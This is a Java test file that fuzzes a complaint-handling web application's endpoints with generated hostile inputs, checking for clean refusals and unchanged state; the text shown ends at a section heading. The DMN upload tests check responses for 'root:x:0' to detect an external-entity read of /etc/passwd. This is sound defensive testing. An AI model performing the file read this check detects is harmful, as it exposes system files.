package com.redress.shared;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.BooleanNode;
import com.fasterxml.jackson.databind.node.DecimalNode;
import com.fasterxml.jackson.databind.node.DoubleNode;
import com.fasterxml.jackson.databind.node.IntNode;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import com.redress.award.EmployeeAwardProcess;
import com.redress.classification.HandlerGroups;
import com.redress.complaint.Category;
import com.redress.complaint.ComplaintHandlingProcess;
import com.redress.complaint.ComplaintService;
import com.redress.complaint.ComplaintStatus;
import com.redress.complaint.Severity;
import com.redress.identity.Groups;
import com.redress.support.ApplicationTest;
import com.redress.support.Http;
import com.redress.support.Jobs;
import com.redress.support.Submissions;
import com.redress.support.TestUsers;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.math.RoundingMode;
import java.net.URI;
import java.net.URLDecoder;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.time.LocalDateTime;
import java.time.OffsetDateTime;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.BiFunction;
import java.util.function.Function;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.camunda.bpm.engine.task.Task;
import org.camunda.bpm.engine.variable.VariableMap;
import org.camunda.bpm.engine.variable.value.SerializableValue;
import org.camunda.bpm.engine.variable.value.TypedValue;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * A generated hostile-input campaign over real HTTP: for each entry point, {@value #INPUTS} malformed
 * or hostile inputs from a seeded generator. For every input: never a 5xx; a refusal is a 4xx that
 * says what is wrong (problem+json on /api, the form again with its message on the customer page,
 * Camunda's message on engine REST) and changes nothing (rows, budgets, process instances, the
 * task); an input that turns out to be legal may be accepted, and then what was stored must read
 * back exactly. Failures are collected per endpoint, each with its input, and reported with the
 * seed; {@code -Dhostile.seed=...} runs another campaign. Every endpoint's figures are appended to
 * {@code target/hostile-inputs.md}.
 */
class HostileInputTest extends ApplicationTest {

  private static final long SEED = Long.getLong("hostile.seed", 20_261_123L);
  private static final int INPUTS = 100;
  private static final Path SUMMARY = Path.of("target", "hostile-inputs.md");
  private static final String JSON_TYPE = "application/json";
  private static final String FORM = "application/x-www-form-urlencoded";
  /** The customer form shows this paragraph whenever it refuses. */
  private static final Pattern PAGE_REFUSAL = Pattern.compile("class=\"[^\"]*\\brefusal\\b");
  private static final Pattern STATUS_PAGE =
      Pattern.compile("/complaints/(CMP-\\d{4}-\\d{6})\\?token=([^&]+)&notice=submitted");
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final HttpClient RAW = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
  /** Tables a refused input could only change by inserting: their row counts must stay. */
  private static final List<String> TABLES = List.of("complaint", "complaint_access_token", "idempotency_key",
      "notification_outbox", "audit_event", "complaint_survey", "complaint_handler", "compensation", "award_run");

  private static final List<Field> COMPLAINT_FIELDS = List.of(
      new Field("customer", Kind.OBJECT, 0),
      new Field("customer.id", Kind.TEXT, 64),
      new Field("customer.name", Kind.TEXT, 200),
      new Field("customer.email", Kind.EMAIL, 254),
      new Field("customer.phone", Kind.OPTIONAL_TEXT, 40),
      new Field("customer.tier", Kind.ENUM, 0),
      new Field("channel", Kind.ENUM, 0),
      new Field("category", Kind.ENUM, 0),
      new Field("subject", Kind.TEXT, 200),
      new Field("description", Kind.TEXT, 4_000),
      new Field("orderReference", Kind.OPTIONAL_TEXT, 64),
      new Field("orderAmount", Kind.OPTIONAL_OBJECT, 0),
      new Field("orderAmount.amount", Kind.AMOUNT, 0),
      new Field("orderAmount.currency", Kind.CURRENCY, 0),
      new Field("occurredAt", Kind.TIME, 0));
  private static final List<Field> FORM_FIELDS = List.of(
      new Field("submissionId", Kind.KEY, 255),
      new Field("name", Kind.TEXT, 200),
      new Field("email", Kind.EMAIL, 254),
      new Field("phone", Kind.OPTIONAL_TEXT, 40),
      new Field("customerNumber", Kind.OPTIONAL_TEXT, 64),
      new Field("category", Kind.ENUM, 0),
      new Field("subject", Kind.TEXT, 200),
      new Field("description", Kind.TEXT, 4_000),
      new Field("orderReference", Kind.OPTIONAL_TEXT, 64),
      new Field("orderAmount", Kind.AMOUNT, 0),
      new Field("orderCurrency", Kind.CURRENCY, 0),
      new Field("occurredAt", Kind.TIME, 0));
  private static final List<Field> SURVEY_FIELDS = List.of(
      new Field("token", Kind.TOKEN, 0),
      new Field("score", Kind.SCORE, 0),
      new Field("comment", Kind.OPTIONAL_TEXT, 2_000));
  private static final List<Field> AWARD_FIELDS = List.of(new Field("period", Kind.MONTH, 0));
  private static final List<Field> OBJECTION_FIELDS = List.of(new Field("reason", Kind.TEXT, 2_000));
  private static final List<Field> SURVEY_FORM_FIELDS = List.of(
      new Field("token", Kind.KEY, 255),
      new Field("score", Kind.ENUM, 0),
      new Field("comment", Kind.OPTIONAL_TEXT, 2_000));
  private static final List<Field> BUDGET_FIELDS = List.of(
      new Field("amount", Kind.OBJECT, 0),
      new Field("amount.amount", Kind.DECIMAL, 0),
      new Field("amount.currency", Kind.CNY, 0));
  /** Where whole-body mutations of a Task_HandleComplaint submission put their bytes and tokens. */
  private static final List<Field> SUBMISSION_FIELDS = List.of(
      new Field("variables.rootCause.value", Kind.TEXT, 0),
      new Field("variables.resolution.value", Kind.TEXT, 0),
      new Field("variables.serviceFailureAcknowledged.value", Kind.TEXT, 0),
      new Field("variables.compensationType.value", Kind.TEXT, 0));

  @Autowired JdbcTemplate jdbc;

  /** The task the engine REST campaign works on; replaced whenever an input completes it. */
  private HandlingTask handling;

  // ------------------------------------------------------------------------------ the campaigns

  @Test
  void publicIntakeApi() throws IOException {
    Hostile hostile = new Hostile(SEED + 1);
    Campaign campaign = new Campaign("POST /api/complaints", SEED + 1, 8, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      boolean legal = hostile.percent(8) && campaign.mayAccept();
      JsonBody body = hostile.mutateJson(complaintBody(i), COMPLAINT_FIELDS, legal);
      List<String> headers = new ArrayList<>();
      if (hostile.percent(25)) {
        String key = legal ? hostile.legalKey(i) : hostile.idempotencyKey(i);
        headers.addAll(List.of("Idempotency-Key", key));
        body.note("Idempotency-Key " + preview(key));
      }
      HttpResponse<String> response = send("POST", "/api/complaints", body.contentType(), body.bytes(), null,
          JSON_TYPE, headers);
      campaign.judge(body.describe(), response, Shape.API_BODY, created -> intakeReadsBack(body.tree(), created));
    }
    campaign.finish();
  }

  @Test
  void customerLookup() throws IOException {
    Created real = submitted();
    Hostile hostile = new Hostile(SEED + 2);
    Campaign campaign = new Campaign("GET /api/complaints/{reference}?token=", SEED + 2, INPUTS, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      String reference = real.reference();
      String query = "token=" + encode(real.token());
      List<String> mutations = new ArrayList<>();
      // one in ten is the customer's own link, only with hostile parameters added
      if (!hostile.percent(10)) {
        if (hostile.percent(60)) {
          reference = hostile.pathSegment();
          mutations.add("reference");
        }
        if (mutations.isEmpty() || hostile.percent(40)) {
          query = hostile.tokenQuery(real.token());
          mutations.add("token");
        }
      }
      if (hostile.percent(20)) {
        query = query + (query.isEmpty() ? "" : "&") + hostile.extraParameter();
        mutations.add("extra parameter");
      }
      String path = "/api/complaints/" + reference + (query.isEmpty() ? "" : "?" + query);
      HttpResponse<String> response = http.get(path);
      campaign.judge(mutations + " GET " + path, response, Shape.API_URL, found -> sameComplaint(real, found));
    }
    campaign.finish();
  }

  @Test
  void surveyAnswerApi() throws IOException {
    // just submitted, so no survey is awaited: whatever the body, nothing may be answered
    Created real = submitted();
    Hostile hostile = new Hostile(SEED + 3);
    Campaign campaign = new Campaign("POST /api/complaints/{reference}/survey", SEED + 3, 0,
        () -> Map.of("status of " + real.reference(), complaintStatus(real.reference())));
    for (int i = 0; i < INPUTS; i++) {
      ObjectNode valid = JSON.createObjectNode().put("token", real.token()).put("score", 4)
          .put("comment", "Quick and kind.");
      JsonBody body = hostile.mutateJson(valid, SURVEY_FIELDS, hostile.percent(30));
      String reference = real.reference();
      Shape shape = Shape.API_BODY;
      if (hostile.percent(15)) {
        reference = hostile.pathSegment();
        shape = Shape.API_URL;
        body.note("reference " + preview(reference));
      }
      HttpResponse<String> response = send("POST", "/api/complaints/" + reference + "/survey", body.contentType(),
          body.bytes(), null, JSON_TYPE, List.of());
      campaign.judge(body.describe(), response, shape, answered -> "a complaint awaiting no survey took an answer");
    }
    campaign.finish();
  }

  @Test
  void surveyPageForm() throws IOException {
    // the customer's survey form for a complaint awaiting no survey: nothing may be answered
    Created real = submitted();
    Hostile hostile = new Hostile(SEED + 10);
    Campaign campaign = new Campaign("POST /complaints/{reference}/survey (survey form)", SEED + 10, 0,
        () -> Map.of("status of " + real.reference(), complaintStatus(real.reference())));
    for (int i = 0; i < INPUTS; i++) {
      FormBody form = hostile.mutateForm(Map.of("token", real.token(), "score", "4", "comment", "Quick and kind."),
          SURVEY_FORM_FIELDS, false);
      HttpResponse<String> response = send("POST", "/complaints/" + real.reference() + "/survey", form.contentType(),
          form.bytes(), null, "text/html", List.of());
      campaign.judge(form.describe(), response, Shape.PAGE, answered -> "a complaint awaiting no survey took an answer");
    }
    campaign.finish();
  }

  @Test
  void objections() throws IOException {
    String member = TestUsers.ensure(engine.getIdentityService(), "hostile-objector", Groups.TEAM_SERVICE);
    Hostile hostile = new Hostile(SEED + 11);
    Campaign campaign = new Campaign("POST /api/award-runs/{id}/objections", SEED + 11, 0, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      // no such run: every objection is refused, whatever its body
      String run = hostile.percent(30) ? hostile.pathSegment() : "AWD-1901-01";
      JsonBody body = hostile.mutateJson(JSON.createObjectNode().put("reason", "The ranking left out my team's work."),
          OBJECTION_FIELDS, false);
      body.note("run " + preview(run));
      HttpResponse<String> response = send("POST", "/api/award-runs/" + run + "/objections", body.contentType(),
          body.bytes(), member, JSON_TYPE, List.of());
      campaign.judge(body.describe(), response, Shape.API_URL, taken -> "an objection to no run was taken");
    }
    campaign.finish();
  }

  @Test
  void auditTimelineReferences() throws IOException {
    Created real = submitted();
    String auditor = TestUsers.ensure(engine.getIdentityService(), "hostile-auditor", Groups.AUDITORS);
    Hostile hostile = new Hostile(SEED + 12);
    Campaign campaign = new Campaign("GET /api/audit/complaints/{reference}/timeline", SEED + 12, INPUTS, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      String reference = hostile.percent(10) ? real.reference() : hostile.pathSegment();
      HttpResponse<String> response = send("GET", "/api/audit/complaints/" + reference + "/timeline", JSON_TYPE,
          new byte[0], auditor, hostile.percent(30) ? "text/csv" : JSON_TYPE, List.of());
      campaign.judge("reference " + preview(reference), response, Shape.API_URL,
          timeline -> reference.equals(real.reference()) ? null : "a timeline for " + preview(reference));
    }
    campaign.finish();
  }

  @Test
  void compensationReport() throws IOException {
    // months, not days: most generated periods are refused; a legal one must answer a report
    queryCampaign("GET /api/reports/compensation", 13, "hostile-finance-reader", Groups.FINANCE,
        "/api/reports/compensation", Hostile::kpiQuery, (query, report) -> null);
  }

  @Test
  void awardRunLookups() throws IOException {
    pathCampaign("GET /api/award-runs/{id}", 14, "hostile-committee-reader", Groups.AWARD_COMMITTEE,
        id -> "/api/award-runs/" + id, JSON_TYPE);
  }

  @Test
  void payoutLists() throws IOException {
    pathCampaign("GET /api/award-runs/{id}/payout.csv", 15, "hostile-payroll", Groups.FINANCE,
        id -> "/api/award-runs/" + id + "/payout.csv", "text/csv");
  }

  @Test
  void customerStatusPage() throws IOException {
    Created real = submitted();
    pathCampaign("GET /complaints/{reference}?token= (status page)", 16, "hostile-page-reader", Groups.TEAM_SERVICE,
        reference -> "/complaints/" + reference + "?token=" + encode(real.token()), "text/html");
  }

  @Test
  void budgetLookups() throws IOException {
    String finance = TestUsers.ensure(engine.getIdentityService(), "hostile-budget-reader", Groups.FINANCE);
    Hostile hostile = new Hostile(SEED + 17);
    Campaign campaign = new Campaign("GET /api/compensation/budgets/{team}/{month}", SEED + 17, INPUTS, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      String team = hostile.percent(50) ? hostile.teamSegment() : hostile.pick(HandlerGroups.ALL);
      String month = hostile.percent(50) ? hostile.monthSegment() : "1901-%02d".formatted(hostile.between(1, 12));
      String path = "/api/compensation/budgets/" + team + "/" + month;
      campaign.judge("GET " + path, send("GET", path, JSON_TYPE, new byte[0], finance, JSON_TYPE, List.of()),
          Shape.API_URL, budget -> null);
    }
    campaign.finish();
  }

  @Test
  void auditSearchPage() throws IOException {
    queryCampaign("GET /audit (search page)", 18, "hostile-page-auditor", Groups.AUDITORS, "/audit",
        Hostile::listQuery, (query, page) -> null);
  }

  @Test
  void kpiDashboardPage() throws IOException {
    queryCampaign("GET /reports/kpis (dashboard)", 19, "hostile-page-manager", Groups.SERVICE_MANAGERS,
        "/reports/kpis", Hostile::kpiQuery, (query, page) -> null);
  }

  @Test
  void whatIfUploads() throws IOException {
    String analyst = TestUsers.ensure(engine.getIdentityService(), "hostile-analyst", Groups.PROCESS_ANALYSTS);
    byte[] decision = Files.readAllBytes(Path.of("processes/ComplaintClassification.dmn"));
    Hostile hostile = new Hostile(SEED + 20);
    Campaign campaign = new Campaign("POST /api/analysis/what-if (DMN upload)", SEED + 20, 2, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      // the first upload is the real decision: the campaign shows a legal one is taken
      boolean legal = i == 0 || hostile.percent(2) && campaign.mayAccept();
      String file = legal ? new String(decision, UTF_8) : hostile.dmn(new String(decision, UTF_8));
      // a month without complaints: an accepted replay has nothing to do
      String from = legal || hostile.percent(70) ? "2001-01-01" : hostile.date();
      String to = legal || hostile.percent(70) ? "2001-01-31" : hostile.date();
      String boundary = "hostile" + i;
      HttpResponse<String> response = send("POST", "/api/analysis/what-if", "multipart/form-data; boundary="
          + boundary, multipart(boundary, file, from, to), analyst, JSON_TYPE, List.of());
      campaign.judge("decision " + preview(file) + ", from " + preview(from) + ", to " + preview(to), response,
          Shape.API_BODY, started -> response.body().contains("root:x:0") ? "a local file came back" : null);
      if (response.body().contains("root:x:0")) {
        throw new AssertionError("an external entity was read: " + cut(response.body(), 300));
      }
    }
    campaign.finish();
  }

  @Test
  void objectionPageForm() throws IOException {
    StaffSession member = new StaffSession(TestUsers.ensure(engine.getIdentityService(), "hostile-page-objector",
        Groups.TEAM_BILLING));
    Hostile hostile = new Hostile(SEED + 21);
    Campaign campaign = new Campaign("POST /awards/{id}/objections (objection form)", SEED + 21, 0, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      // no such run: every objection is refused, whatever the form holds
      FormBody form = hostile.mutateForm(Map.of("reason", "The ranking left out my team's work."),
          OBJECTION_FIELDS, false);
      campaign.judge(form.describe(), member.post("/awards/AWD-1901-01/objections", form.contentType(), form.bytes()),
          Shape.PAGE, taken -> "an objection to no run was taken");
    }
    campaign.finish();
  }

  @Test
  void whatIfPageForm() throws IOException {
    StaffSession analyst = new StaffSession(TestUsers.ensure(engine.getIdentityService(), "hostile-page-analyst",
        Groups.PROCESS_ANALYSTS));
    String valid = Files.readString(Path.of("processes/ComplaintClassification.dmn"));
    Hostile hostile = new Hostile(SEED + 22);
    Campaign campaign = new Campaign("POST /analysis/what-if (upload form)", SEED + 22, 2, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      boolean legal = i == 0;
      String file = legal ? valid : hostile.dmn(valid);
      String from = legal || hostile.percent(70) ? "2001-01-01" : hostile.date();
      String boundary = "hostile" + i;
      byte[] body = multipart(boundary, file, from, "2001-01-31");
      HttpResponse<String> response = analyst.post("/analysis/what-if", "multipart/form-data; boundary=" + boundary,
          body);
      campaign.judge("decision " + preview(file) + ", from " + preview(from), response, Shape.PAGE,
          started -> response.body().contains("root:x:0") ? "a local file came back" : null);
    }
    campaign.finish();
  }

  @Test
  void malformedMultipartBodies() throws IOException {
    String analyst = TestUsers.ensure(engine.getIdentityService(), "hostile-analyst", Groups.PROCESS_ANALYSTS);
    Hostile hostile = new Hostile(SEED + 23);
    Campaign campaign = new Campaign("POST multipart, broken (intake API and form, survey form, what-if)", SEED + 23,
        0, Map::of);
    List<String> paths = List.of("/api/complaints", "/complaints", "/complaints/CMP-1901-000001/survey",
        "/api/analysis/what-if");
    for (int i = 0; i < INPUTS; i++) {
      String path = paths.get(i % paths.size());
      String boundary = "hostile" + i;
      byte[] body = hostile.brokenMultipart(boundary, multipart(boundary, "<definitions/>", "2001-01-01", "2001-01-31"));
      String type = hostile.percent(15) ? "multipart/form-data" : "multipart/form-data; boundary=" + boundary;
      HttpResponse<String> response = send("POST", path, type, body, path.contains("analysis") ? analyst : null,
          JSON_TYPE, List.of());
      campaign.judge(path + " " + type + ": " + preview(new String(body, UTF_8)), response,
          path.startsWith("/api/") ? Shape.API_BODY : Shape.PAGE, taken -> "a broken multipart body was taken");
    }
    campaign.finish();
  }

  /** The what-if upload as a browser's multipart form sends it. */
  private static byte[] multipart(String boundary, String file, String from, String to) {
    return ("--" + boundary + "\r\nContent-Disposition: form-data; name=\"decision\"; filename=\"x.dmn\"\r\n"
        + "Content-Type: application/xml\r\n\r\n" + file + "\r\n--" + boundary
        + "\r\nContent-Disposition: form-data; name=\"from\"\r\n\r\n" + from + "\r\n--" + boundary
        + "\r\nContent-Disposition: form-data; name=\"to\"\r\n\r\n" + to + "\r\n--" + boundary + "--\r\n")
        .getBytes(UTF_8);
  }

  /** A member of staff signed in to the staff pages with a session; posts carry the page's CSRF token. */
  private final class StaffSession {

    private final HttpClient client = HttpClient.newBuilder().cookieHandler(new java.net.CookieManager())
        .followRedirects(HttpClient.Redirect.NEVER).build();
    private final String token;

    StaffSession(String user) {
      String loginToken = csrf(get("/staff/login"));
      HttpResponse<String> login = post("/staff/login", FORM, ("username=" + encode(user) + "&password="
          + encode(TestUsers.PASSWORD) + "&_csrf=" + encode(loginToken)).getBytes(UTF_8), loginToken);
      if (login.statusCode() != 302) {
        throw new AssertionError("could not sign in " + user + ": " + login.statusCode());
      }
      token = csrf(get("/staff/login"));
    }

    HttpResponse<String> post(String path, String contentType, byte[] body) {
      return post(path, contentType, body, token);
    }

    private HttpResponse<String> post(String path, String contentType, byte[] body, String csrf) {
      return Http.send(client, HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
          .timeout(Duration.ofSeconds(60)).header("Content-Type", contentType).header("Accept", "text/html")
          .header("X-CSRF-TOKEN", csrf).POST(HttpRequest.BodyPublishers.ofByteArray(body)).build());
    }

    private HttpResponse<String> get(String path) {
      return Http.send(client, HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).GET().build());
    }

    private static String csrf(HttpResponse<String> page) {
      java.util.regex.Matcher token = Pattern.compile("name=\"_csrf\" value=\"([^\"]+)\"").matcher(page.body());
      if (!token.find()) {
        throw new AssertionError("no CSRF token on the page");
      }
      return token.group(1);
    }
  }

  /** A GET whose path carries one generated segment; what it may find is never checked, only how it answers. */
  private void pathCampaign(String name, int seedOffset, String user, String group, Function<String, String> path,
      String accept) throws IOException {
    String caller = TestUsers.ensure(engine.getIdentityService(), user, group);
    Hostile hostile = new Hostile(SEED + seedOffset);
    Campaign campaign = new Campaign(name, SEED + seedOffset, INPUTS, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      String segment = hostile.pathSegment();
      campaign.judge("segment " + preview(segment), send("GET", path.apply(segment), JSON_TYPE, new byte[0], caller,
          accept, List.of()), accept.equals("text/html") ? Shape.PAGE : Shape.API_URL, found -> null);
    }
    campaign.finish();
  }

  @Test
  void staffComplaintList() throws IOException {
    queryCampaign("GET /api/complaints (staff list)", 4, "hostile-team-member", Groups.TEAM_BILLING,
        "/api/complaints", Hostile::listQuery, HostileInputTest::listMatches);
  }

  @Test
  void customerComplaintForm() throws IOException {
    Hostile hostile = new Hostile(SEED + 5);
    Campaign campaign = new Campaign("POST /complaints (customer form)", SEED + 5, 5, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      FormBody form = hostile.mutateForm(validForm(i), FORM_FIELDS, hostile.percent(8) && campaign.mayAccept());
      HttpResponse<String> response = send("POST", "/complaints", form.contentType(), form.bytes(), null, "text/html",
          List.of());
      campaign.judge(form.describe(), response, Shape.PAGE, redirect -> formReadsBack(form, redirect));
    }
    campaign.finish();
  }

  @Test
  void awardRunRequests() throws IOException {
    String committee = TestUsers.ensure(engine.getIdentityService(), "hostile-committee", Groups.AWARD_COMMITTEE);
    Hostile hostile = new Hostile(SEED + 6);
    Campaign campaign = new Campaign("POST /api/award-runs", SEED + 6, 2, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      // a month centuries ago: legal, and no other test's period
      ObjectNode valid = JSON.createObjectNode().put("period", hostile.oldMonth());
      JsonBody body = hostile.mutateJson(valid, AWARD_FIELDS, hostile.percent(5) && campaign.mayAccept());
      HttpResponse<String> response = send("POST", "/api/award-runs", body.contentType(), body.bytes(), committee,
          JSON_TYPE, List.of());
      campaign.judge(body.describe(), response, Shape.API_BODY,
          created -> awardRunReadsBack(http.as(committee, TestUsers.PASSWORD), body.tree(), created));
    }
    campaign.finish();
  }

  @Test
  void budgetUpdates() throws IOException {
    String finance = TestUsers.ensure(engine.getIdentityService(), "hostile-finance", Groups.FINANCE);
    Hostile hostile = new Hostile(SEED + 7);
    Campaign campaign = new Campaign("PUT /api/compensation/budgets/{team}/{month}", SEED + 7, 4, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      boolean legal = hostile.percent(8) && campaign.mayAccept();
      boolean breakPath = hostile.percent(40) && !legal;
      String team = hostile.pick(HandlerGroups.ALL);
      // months long past: an accepted budget must not change any month the other tests work in
      String month = "1901-%02d".formatted(hostile.between(1, 12));
      ObjectNode valid = JSON.createObjectNode();
      valid.set("amount", JSON.createObjectNode().put("amount", "100.00").put("currency", "CNY"));
      JsonBody body;
      Shape shape = Shape.API_BODY;
      if (breakPath) {
        body = hostile.mutateJson(valid, BUDGET_FIELDS, true);
        shape = Shape.API_URL;
        if (hostile.percent(50)) {
          team = hostile.teamSegment();
          body.note("team " + preview(team));
        } else {
          month = hostile.monthSegment();
          body.note("month " + preview(month));
        }
      } else {
        body = hostile.mutateJson(valid, BUDGET_FIELDS, legal);
        if (legal && hostile.percent(50)) {
          month = hostile.pick(Hostile.LEGAL_BUDGET_MONTHS);
          body.note("month " + month);
        }
      }
      String path = "/api/compensation/budgets/" + team + "/" + month;
      HttpResponse<String> response = send("PUT", path, body.contentType(), body.bytes(), finance, JSON_TYPE,
          List.of());
      String sentTeam = team;
      String sentMonth = month;
      campaign.judge(body.describe() + " PUT " + path, response, shape, saved -> budgetReadsBack(
          http.as(finance, TestUsers.PASSWORD), sentTeam, sentMonth, body.tree(), saved));
    }
    campaign.finish();
  }

  @Test
  void kpiReport() throws IOException {
    queryCampaign("GET /api/reports/kpis", 8, "hostile-manager", Groups.SERVICE_MANAGERS, "/api/reports/kpis",
        Hostile::kpiQuery, HostileInputTest::reportMatches);
  }

  /** A GET whose query string is generated: 30 % legal (checked against the answer), the rest hostile. */
  private void queryCampaign(String name, int seedOffset, String user, String group, String path,
      BiFunction<Hostile, Boolean, Query> queries, BiFunction<Query, HttpResponse<String>, String> check)
      throws IOException {
    Http caller = http.as(TestUsers.ensure(engine.getIdentityService(), user, group), TestUsers.PASSWORD);
    Hostile hostile = new Hostile(SEED + seedOffset);
    Campaign campaign = new Campaign(name, SEED + seedOffset, INPUTS, Map::of);
    for (int i = 0; i < INPUTS; i++) {
      Query query = queries.apply(hostile, hostile.percent(30));
      HttpResponse<String> response = caller.get(path + "?" + query);
      campaign.judge(query.describe(), response, Shape.API_URL, answer -> check.apply(query, answer));
    }
    campaign.finish();
  }

  @Test
  void handlingTaskCompletionOverEngineRest() throws IOException {
    handling = openHandlingTask();
    Hostile hostile = new Hostile(SEED + 9);
    Campaign campaign = new Campaign("POST /engine-rest/task/{id}/submit-form (Task_HandleComplaint)", SEED + 9, 2,
        this::handlingState);
    for (int i = 0; i < INPUTS; i++) {
      JsonBody body = hostile.mutateSubmission(handlingSubmission(), hostile.percent(3) && campaign.mayAccept());
      HttpResponse<String> response = send("POST", "/engine-rest/task/" + handling.taskId() + "/submit-form",
          JSON_TYPE, body.bytes(), handling.handler(), JSON_TYPE, List.of());
      campaign.judge(body.describe(), response, Shape.ENGINE, completed -> handlingReadsBack(body.tree(), completed));
    }
    campaign.finish();
  }

  // ------------------------------------------------------------------------- valid starting points

  private static ObjectNode complaintBody(int n) {
    try {
      return (ObjectNode) JSON.readTree(Submissions.body("C-HOSTILE-" + n, "ORD-HOSTILE-" + n, "DAMAGE", "GOLD",
          "Vase broken during cleaning"));
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  private static Map<String, String> validForm(int n) {
    Map<String, String> form = new LinkedHashMap<>();
    form.put("submissionId", "hostile-form-" + n);
    form.put("name", "Li Wei");
    form.put("email", "li.wei.form" + n + "@example.com");
    form.put("phone", "+86 138 0000 0000");
    form.put("customerNumber", "");
    form.put("category", "DAMAGE");
    form.put("subject", "Vase broken");
    form.put("description", "The cleaner broke my vase.");
    form.put("orderReference", "ORD-FORM-" + n);
    form.put("orderAmount", "800.00");
    form.put("orderCurrency", "CNY");
    form.put("occurredAt", "2026-11-20T10:15");
    return form;
  }

  /** The outcome Tasklist submits for a plain resolution without compensation. */
  private static ObjectNode handlingSubmission() {
    ObjectNode variables = JSON.createObjectNode();
    variables.set("rootCause", Hostile.variable(TextNode.valueOf("STAFF_ERROR"), "String"));
    variables.set("resolution", Hostile.variable(TextNode.valueOf("Replaced the vase and apologised."), "String"));
    variables.set("serviceFailureAcknowledged", Hostile.variable(BooleanNode.TRUE, "Boolean"));
    variables.set("compensationType", Hostile.variable(TextNode.valueOf("NONE"), "String"));
    ObjectNode body = JSON.createObjectNode();
    body.set("variables", variables);
    return body;
  }

  private record Created(String reference, String token) {
  }

  private Created submitted() {
    HttpResponse<String> response = http.postJson("/api/complaints", Submissions.valid("DAMAGE", "STANDARD"));
    if (response.statusCode() != 201) {
      throw new AssertionError("Could not submit a complaint to work on: " + response.body());
    }
    JsonNode created = Http.json(response);
    return new Created(created.get("reference").asText(), created.get("accessToken").asText());
  }

  private record HandlingTask(String reference, String taskId, String processInstanceId, String handler) {
  }

  /** A complaint waiting at Task_HandleComplaint, claimed by a handler of its team. */
  private HandlingTask openHandlingTask() {
    Created complaint = submitted();
    Jobs.continueAfterRegistration(engine, complaint.reference());
    String team = bean(ComplaintService.class).get(complaint.reference()).classification().handlerGroup();
    String handler = TestUsers.ensure(engine.getIdentityService(), "hostile-handler", team);
    Task task = engine.getTaskService().createTaskQuery().processInstanceBusinessKey(complaint.reference())
        .taskDefinitionKey(ComplaintHandlingProcess.TASK_HANDLE).singleResult();
    engine.getTaskService().claim(task.getId(), handler);
    return new HandlingTask(complaint.reference(), task.getId(), task.getProcessInstanceId(), handler);
  }

  private Http staff() {
    return http.as(TestUsers.ensure(engine.getIdentityService(), "hostile-supervisor", Groups.SUPERVISORS),
        TestUsers.PASSWORD);
  }

  // ------------------------------------------------------------------------ what must stay unchanged

  /** Everything a refused input must leave as it was: row counts, budgets, process instances. */
  private Map<String, Object> snapshot() {
    Map<String, Object> state = new LinkedHashMap<>();
    for (String table : TABLES) {
      state.put(table + " rows", jdbc.queryForObject("SELECT COUNT(*) FROM " + table, Long.class));
    }
    // a refused budget must not update an existing row either
    state.put("compensation_budget", jdbc.queryForList(
        "SELECT team, budget_month, currency, amount FROM compensation_budget ORDER BY team, budget_month"));
    state.put("ComplaintHandling instances", engine.getRuntimeService().createProcessInstanceQuery()
        .processDefinitionKey(ComplaintHandlingProcess.KEY).count());
    state.put("EmployeeAward instances", engine.getRuntimeService().createProcessInstanceQuery()
        .processDefinitionKey(EmployeeAwardProcess.KEY).count());
    state.put("historic process instances", engine.getHistoryService().createHistoricProcessInstanceQuery().count());
    return state;
  }

  private String complaintStatus(String reference) {
    return jdbc.queryForObject("SELECT status FROM complaint WHERE reference = ?", String.class, reference);
  }

  /** The handling task open, the complaint's status, and every variable: a refused completion keeps them all. */
  private Map<String, Object> handlingState() {
    Map<String, Object> state = new LinkedHashMap<>();
    long open = engine.getTaskService().createTaskQuery().taskId(handling.taskId()).count();
    state.put("Task_HandleComplaint open", open);
    state.put("status of " + handling.reference(), complaintStatus(handling.reference()));
    state.put("process variables",
        variables(engine.getRuntimeService().getVariablesTyped(handling.processInstanceId(), false)));
    if (open == 1) {
      state.put("task variables", variables(engine.getTaskService().getVariablesLocalTyped(handling.taskId(), false)));
    }
    return state;
  }

  private static Map<String, String> variables(VariableMap variables) {
    Map<String, String> described = new TreeMap<>();
    for (String name : variables.keySet()) {
      TypedValue typed = variables.getValueTyped(name);
      Object value = typed instanceof SerializableValue serializable ? serializable.getValueSerialized()
          : typed.getValue();
      described.put(name, typed.getType() + " " + (value instanceof byte[] bytes ? Arrays.toString(bytes) : value));
    }
    return described;
  }

  // ------------------------------------------------------------------------- reading accepted input back

